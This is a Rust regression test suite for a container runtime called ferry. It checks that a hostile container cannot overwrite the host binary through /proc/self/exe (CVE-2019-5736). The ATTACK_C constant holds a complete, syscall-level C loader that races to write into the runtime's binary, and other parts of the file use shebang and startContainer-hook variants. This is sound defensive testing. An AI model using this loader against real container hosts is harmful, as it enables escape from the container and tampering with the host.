//! CVE-2019-5736, end to end: a hostile rootfs tries to overwrite ferry's
//! binary on the host through `/proc/self/exe`.
//!
//! The rootfs ships its own program loader (`/lib64/ld-linux-x86-64.so.2`,
//! ferry's `PT_INTERP`): a small static program. The container then makes
//! the kernel run `/proc/self/exe` (as `process.args`, or as the `#!`
//! interpreter of the rootfs's `/bin/sh` for `ferry exec`). Were that ferry's
//! binary, it would run with the hostile loader, which opens `/proc/self/exe`,
//! re-executes itself as a racer holding that fd, and writes a marker into
//! the binary as soon as no ferry process keeps it busy (`ETXTBSY`).
//!
//! A `startContainer` hook runs inside the container too, so the same
//! attack is tried through a hook whose path is `/proc/self/exe` or a
//! `#!/proc/self/exe` script; the racer then detaches so that the hook ends
//! and the container goes on.
//!
//! Every test runs a private copy of the ferry binary under test (never the
//! build output itself) and checks that the copy's bytes are unchanged a
//! few seconds after the last ferry process has exited.
#[macro_use]
mod common;

use common::*;
use std::fs;
use std::os::unix::fs::PermissionsExt;
use std::path::{Path, PathBuf};
use std::process::{Command, Stdio};
use std::sync::atomic::{AtomicUsize, Ordering};
use std::time::Duration;

/// The hostile loader. Stage 1 runs as the program interpreter of whatever
/// dynamic binary the container exec'd; stage 2 (argv[0] "ferry-race") is
/// the racer. Progress goes to /attack.log in the rootfs.
const ATTACK_C: &str = r#"
#define O_WRONLY 01
#define O_CREAT 0100
#define O_APPEND 02000
#define O_PATH 010000000
#define ETXTBSY 26
typedef unsigned long u64;
struct timespec { long s, ns; };

static long sys6(long n, long a, long b, long c, long d, long e, long f) {
    register long r10 __asm__("r10") = d;
    register long r8 __asm__("r8") = e;
    register long r9 __asm__("r9") = f;
    long ret;
    __asm__ volatile("syscall" : "=a"(ret)
                     : "a"(n), "D"(a), "S"(b), "d"(c), "r"(r10), "r"(r8), "r"(r9)
                     : "rcx", "r11", "memory");
    return ret;
}
#define sys(n, a, b, c) sys6(n, (long)(a), (long)(b), (long)(c), 0, 0, 0)

static u64 len(const char *s) { u64 n = 0; while (s[n]) n++; return n; }
static char *num(long v, char *end) {
    *--end = 0;
    if (v < 0) v = -v;
    do { *--end = '0' + v % 10; v /= 10; } while (v);
    return end;
}
static void say(const char *what, long v) {
    char buf[24];
    char *n = num(v, buf + sizeof buf);
    int fd = sys6(2, (long)"/attack.log", O_WRONLY | O_CREAT | O_APPEND, 0644, 0, 0, 0);
    sys(1, fd, what, len(what));
    sys(1, fd, " ", 1);
    sys(1, fd, n, len(n));
    sys(1, fd, "\n", 1);
    sys(3, fd, 0, 0);
}
static int same(const char *a, const char *b) {
    while (*a && *a == *b) { a++; b++; }
    return *a == *b;
}
static long parse(const char *s) { long v = 0; while (*s) v = v * 10 + (*s++ - '0'); return v; }
static int has_env(char **envp, const char *kv) {
    for (; *envp; envp++) if (same(*envp, kv)) return 1;
    return 0;
}

static void race(const char *fdnum) {
    char path[40] = "/proc/self/fd/";
    u64 i = len(path), j = 0;
    while (fdnum[j]) path[i++] = fdnum[j++];
    path[i] = 0;
    struct timespec pause = {0, 10000000};
    for (int tries = 0; tries < 3000; tries++) {
        long fd = sys(2, path, O_WRONLY, 0);
        if (fd == -ETXTBSY) { sys(35, &pause, 0, 0); continue; }
        if (fd < 0) { say("open-for-write-failed errno", -fd); return; }
        const char *marker = "FERRY-CVE-2019-5736-OVERWRITTEN";
        say("write", sys6(18, fd, (long)marker, len(marker), 0, 0, 0));
        return;
    }
    say("still-busy-after-tries", 3000);
}

void entry(long *sp) {
    long argc = sp[0];
    char **argv = (char **)(sp + 1);
    char **envp = argv + argc + 1;
    const char *race_name = "ferry-race";
    if (argc == 2 && same(argv[0], race_name)) {
        say("racer-for-fd", parse(argv[1]));
        race(argv[1]);
    } else {
        long fd = sys(2, "/proc/self/exe", O_PATH, 0);
        say("opened-exe fd", fd);
        /* A hook must end for its container to go on: the racer detaches
           and the hook itself exits 0. */
        if (fd >= 0 && has_env(envp, "FERRY_ATTACK_DETACH=1") && sys(57, 0, 0, 0) > 0) {
            say("detached", 0);
            sys(231, 0, 0, 0);
        }
        if (fd >= 0) {
            char buf[24];
            char *args[] = {(char *)race_name, num(fd, buf + sizeof buf), 0};
            say("exec-racer-failed errno", -sys(59, "/lib64/ld-linux-x86-64.so.2", args, envp));
        }
    }
    sys(231, 0, 0, 0);
}

__asm__(".globl _start\n_start:\n mov %rsp, %rdi\n and $-16, %rsp\n call entry\n hlt\n");
"#;

/// How long the racer gets after the last ferry process has exited.
const RACE_WINDOW: Duration = Duration::from_secs(3);

static SEQ: AtomicUsize = AtomicUsize::new(0);

/// The interpreter path a dynamic ELF asks for (`PT_INTERP`).
fn elf_interpreter(bytes: &[u8]) -> Option<String> {
    let word = |at: usize, n: usize| {
        bytes[at..at + n]
            .iter()
            .rev()
            .fold(0u64, |v, b| (v << 8) | u64::from(*b)) as usize
    };
    let (phoff, phentsize, phnum) = (word(32, 8), word(54, 2), word(56, 2));
    (0..phnum).map(|i| phoff + i * phentsize).find_map(|ph| {
        (word(ph, 4) == 3).then(|| {
            let (off, size) = (word(ph + 8, 8), word(ph + 32, 8));
            String::from_utf8_lossy(&bytes[off..off + size])
                .trim_end_matches('\0')
                .to_string()
        })
    })
}

/// Compile `ATTACK_C` (static, no libc) into `out`.
fn compile_attack(out: &Path) {
    let src = out.with_extension("c");
    fs::write(&src, ATTACK_C).unwrap();
    let o = Command::new("cc")
        .args([
            "-static",
            "-O2",
            "-nostdlib",
            "-fno-stack-protector",
            "-fno-builtin",
        ])
        .args(["-no-pie", "-Wl,-Ttext-segment=0x7000000", "-o"])
        .arg(out)
        .arg(&src)
        .output()
        .expect("run cc (gcc and libc6-dev are needed for this test)");
    assert!(
        o.status.success(),
        "cc failed to build the attack program:\n{}",
        String::from_utf8_lossy(&o.stderr)
    );
}

/// Who runs ferry: root, or the unprivileged test user.
#[derive(Clone, Copy)]
struct User {
    uid: u32,
    gid: u32,
}

/// The test user (`ferrytest` or `$FERRY_TEST_USER`), if it exists.
fn test_user() -> Option<User> {
    common::test_user().map(|u| User {
        uid: u.uid,
        gid: u.gid,
    })
}

/// A bundle whose rootfs carries the hostile loader, and a private copy of
/// the ferry binary under test that the attack aims at.
struct Attack {
    b: Bundle,
    ferry: PathBuf,
    original: Vec<u8>,
    user: Option<User>,
}

impl Attack {
    fn new(name: &str, user: Option<User>) -> Attack {
        let b = Bundle::new_raw(name);
        let original = fs::read(ferry_bin()).unwrap();
        let interp = elf_interpreter(&original)
            .expect("the ferry binary under test is static: this attack needs a dynamic one");
        let ferry = b.base.join("bin/ferry");
        fs::create_dir_all(ferry.parent().unwrap()).unwrap();
        fs::write(&ferry, &original).unwrap();
        fs::set_permissions(&ferry, fs::Permissions::from_mode(0o755)).unwrap();
        let loader = b.rootfs().join(interp.trim_start_matches('/'));
        fs::create_dir_all(loader.parent().unwrap()).unwrap();
        compile_attack(&loader);
        if let Some(u) = user {
            let spec = format!("{}:{}", u.uid, u.gid);
            let st = Command::new("chown")
                .args(["-R", &spec])
                .arg(&b.base)
                .status();
            assert!(st.unwrap().success(), "chown -R {}", b.base.display());
        }
        let mut a = Attack {
            b,
            ferry,
            original,
            user,
        };
        a.write_config();
        a
    }

    /// `ferry spec` (`--rootless` for the user), writable root, no terminal.
    fn write_config(&mut self) {
        let dir = self.b.dir_str().to_string();
        let mut args = vec!["spec", "--bundle", &dir];
        if self.user.is_some() {
            args.insert(1, "--rootless");
        }
        let o = self.ferry(&args);
        assert!(o.success(), "ferry spec failed:\n{}", o.describe());
        let text = fs::read_to_string(self.b.dir.join("config.json")).unwrap();
        self.b.config = serde_json::from_str(&text).unwrap();
        self.b.set("/process/terminal", json!(false));
        self.b.readonly_root(false);
    }

    /// Run the copy of ferry (as the test user if any), stdio to files.
    fn ferry(&self, args: &[&str]) -> Out {
        self.try_ferry(args)
            .unwrap_or_else(|why| panic!("ferry {}: {why}", args.join(" ")))
    }

    /// `ferry`, with failures to spawn or finish as errors (for `Drop`).
    fn try_ferry(&self, args: &[&str]) -> Result<Out, String> {
        self.b.save();
        let n = SEQ.fetch_add(1, Ordering::SeqCst);
        let out = self.b.base.join(format!("out/a{n}.out"));
        let err = self.b.base.join(format!("out/a{n}.err"));
        let mut argv: Vec<String> = Vec::new();
        if let Some(u) = self.user {
            argv.extend(["setpriv".into(), format!("--reuid={}", u.uid)]);
            argv.extend([format!("--regid={}", u.gid), "--init-groups".into()]);
            argv.extend(["env".into(), "HOME=/tmp".into(), "XDG_RUNTIME_DIR=".into()]);
        }
        argv.push(self.ferry.display().to_string());
        argv.extend(["--root".into(), self.b.state_root.display().to_string()]);
        argv.extend(args.iter().map(|s| s.to_string()));
        let file = |p: &Path| fs::File::create(p).map_err(|e| e.to_string());
        let mut child = Command::new(&argv[0])
            .args(&argv[1..])
            .stdin(Stdio::null())
            .stdout(file(&out)?)
            .stderr(file(&err)?)
            .spawn()
            .map_err(|e| e.to_string())?;
        let Some(status) = wait_timeout(&mut child, TIMEOUT) else {
            let _ = child.kill();
            let _ = child.wait();
            return Err(format!("timeout after {TIMEOUT:?}"));
        };
        Ok(Out {
            cmd: argv.join(" "),
            status,
            stdout: fs::read_to_string(&out).unwrap_or_default(),
            stderr: fs::read_to_string(&err).unwrap_or_default(),
            stdout_path: out,
        })
    }

    fn ferry_ok(&self, args: &[&str]) -> Out {
        let o = self.ferry(args);
        assert!(o.success(), "expected success:\n{}", o.describe());
        o
    }

    /// What the hostile loader logged inside the rootfs.
    fn attack_log(&self) -> String {
        fs::read_to_string(self.b.rootfs().join("attack.log")).unwrap_or_default()
    }

    /// Give the racer `RACE_WINDOW` (every ferry process has exited by now),
    /// then require the copy of the binary to be byte for byte the original.
    fn assert_binary_intact(&self) {
        let changed = wait_until(RACE_WINDOW, || {
            fs::read(&self.ferry).map_or(true, |now| now != self.original)
        });
        assert!(
            !changed,
            "the container overwrote ferry's binary {}; attack log:\n{}",
            self.ferry.display(),
            self.attack_log()
        );
    }

    /// The container's status, as the copy of ferry reports it.
    fn status(&self) -> String {
        let o = self.ferry_ok(&["state", &self.b.id]);
        let v: Value = serde_json::from_str(&o.stdout).unwrap_or(Value::Null);
        v["status"].as_str().unwrap_or_default().to_string()
    }

    fn delete(&self) {
        self.ferry_ok(&["delete", "--force", &self.b.id]);
    }
}

impl Drop for Attack {
    /// Delete what is left, with the binary restored if the attack won.
    fn drop(&mut self) {
        if !self.b.state_entries().is_empty() {
            let _ = fs::write(&self.ferry, &self.original);
            let _ = self.try_ferry(&["delete", "--force", &self.b.id]);
        }
    }
}

/// `process.args = ["/proc/self/exe"]`, then create and start.
fn attack_on_start(user: Option<User>) {
    let mut a = Attack::new("cve5736-start", user);
    a.b.args(&["/proc/self/exe"]);
    let id = a.b.id.clone();
    let dir = a.b.dir_str().to_string();
    a.ferry_ok(&["create", "--bundle", &dir, &id]);
    a.ferry_ok(&["start", &id]);
    a.assert_binary_intact();
    a.delete();
}

/// The rootfs's /bin/sh is `#!/proc/self/exe`, then `ferry exec -d C sh`.
fn attack_on_exec(user: Option<User>) {
    let mut a = Attack::new("cve5736-exec", user);
    a.b.args(&["sleep", "60"]);
    let id = a.b.id.clone();
    let dir = a.b.dir_str().to_string();
    a.ferry_ok(&["run", "--detach", "--bundle", &dir, &id]);
    let sh = a.b.rootfs().join("bin/sh");
    fs::remove_file(&sh).unwrap();
    fs::write(&sh, "#!/proc/self/exe\n").unwrap();
    fs::set_permissions(&sh, fs::Permissions::from_mode(0o755)).unwrap();
    if let Some(u) = user {
        std::os::unix::fs::lchown(&sh, Some(u.uid), Some(u.gid)).unwrap();
    }
    // `exec --detach` returns once the process has exec'd; what it runs
    // then fails or not: what counts is whether the binary survives.
    let o = a.ferry(&["exec", "--detach", &id, "sh"]);
    a.assert_binary_intact();
    assert!(o.success(), "exec did not start sh:\n{}", o.describe());
    assert_eq!(a.status(), "running", "{}", o.describe());
    a.delete();
}

/// A `startContainer` hook that runs `/proc/self/exe`: as its path
/// (`via_script` false) or as the `#!` interpreter of the rootfs's
/// `/bin/hook`; then create and start, as root or as `user`.
fn attack_on_start_hook(user: Option<User>, via_script: bool) {
    let mut a = Attack::new("cve5736-hook", user);
    a.b.args(&["sleep", "60"]);
    let path = if via_script {
        let script = a.b.rootfs().join("bin/hook");
        fs::write(&script, "#!/proc/self/exe\n").unwrap();
        fs::set_permissions(&script, fs::Permissions::from_mode(0o755)).unwrap();
        if let Some(u) = user {
            std::os::unix::fs::lchown(&script, Some(u.uid), Some(u.gid)).unwrap();
        }
        "/bin/hook"
    } else {
        "/proc/self/exe"
    };
    let hook = json!({"path": path, "args": ["hook"], "env": ["FERRY_ATTACK_DETACH=1"]});
    a.b.set("/hooks/startContainer", json!([hook]));
    let id = a.b.id.clone();
    let dir = a.b.dir_str().to_string();
    let created = a.ferry_ok(&["create", "--bundle", &dir, &id]);
    // ferry refuses to run the hook (it ends the container): what counts
    // first is whether the binary survives.
    let started = a.ferry(&["start", &id]);
    a.assert_binary_intact();
    // The hook was started, and ended without running ferry's binary: the
    // trampoline, run again through /proc/self/exe, finds no program.
    assert!(
        wait_until(TIMEOUT, || a.status() == "stopped"),
        "the container goes on after the hook:\n{}",
        started.describe()
    );
    let init_err = fs::read_to_string(created.stdout_path.with_extension("err")).unwrap();
    assert!(
        init_err.contains(&format!("error running startContainer hook {path}")),
        "the hook did not fail as expected; init's stderr:\n{init_err}\nattack log:\n{}",
        a.attack_log()
    );
    assert!(
        !a.attack_log().contains("opened-exe"),
        "the container's loader ran: {}",
        a.attack_log()
    );
    a.delete();
}

/// The test user, or `None` after a skip note (a failure when skips are not
/// allowed).
fn require_test_user() -> Option<User> {
    let user = test_user();
    if user.is_none() {
        skip("the rootless CVE-2019-5736 attack: needs the user ferrytest");
    }
    user
}

#[test]
fn loader_attack_through_proc_self_exe_on_start_as_root() {
    require_root!();
    attack_on_start(None);
}

#[test]
fn loader_attack_through_proc_self_exe_on_run_as_root() {
    require_root!();
    let mut a = Attack::new("cve5736-run", None);
    a.b.args(&["/proc/self/exe"]);
    let id = a.b.id.clone();
    let dir = a.b.dir_str().to_string();
    a.ferry_ok(&["run", "--detach", "--bundle", &dir, &id]);
    a.assert_binary_intact();
    a.delete();
}

#[test]
fn shebang_attack_through_proc_self_exe_on_exec_as_root() {
    require_root!();
    attack_on_exec(None);
}

#[test]
fn loader_attack_through_proc_self_exe_on_start_rootless() {
    require_root!();
    let Some(user) = require_test_user() else {
        return;
    };
    attack_on_start(Some(user));
}

#[test]
fn shebang_attack_through_proc_self_exe_on_exec_rootless() {
    require_root!();
    let Some(user) = require_test_user() else {
        return;
    };
    attack_on_exec(Some(user));
}

#[test]
fn loader_attack_through_a_start_container_hook_as_root() {
    require_root!();
    attack_on_start_hook(None, false);
}

#[test]
fn shebang_attack_through_a_start_container_hook_as_root() {
    require_root!();
    attack_on_start_hook(None, true);
}

#[test]
fn loader_attack_through_a_start_container_hook_rootless() {
    require_root!();
    let Some(user) = require_test_user() else {
        return;
    };
    attack_on_start_hook(Some(user), false);
}
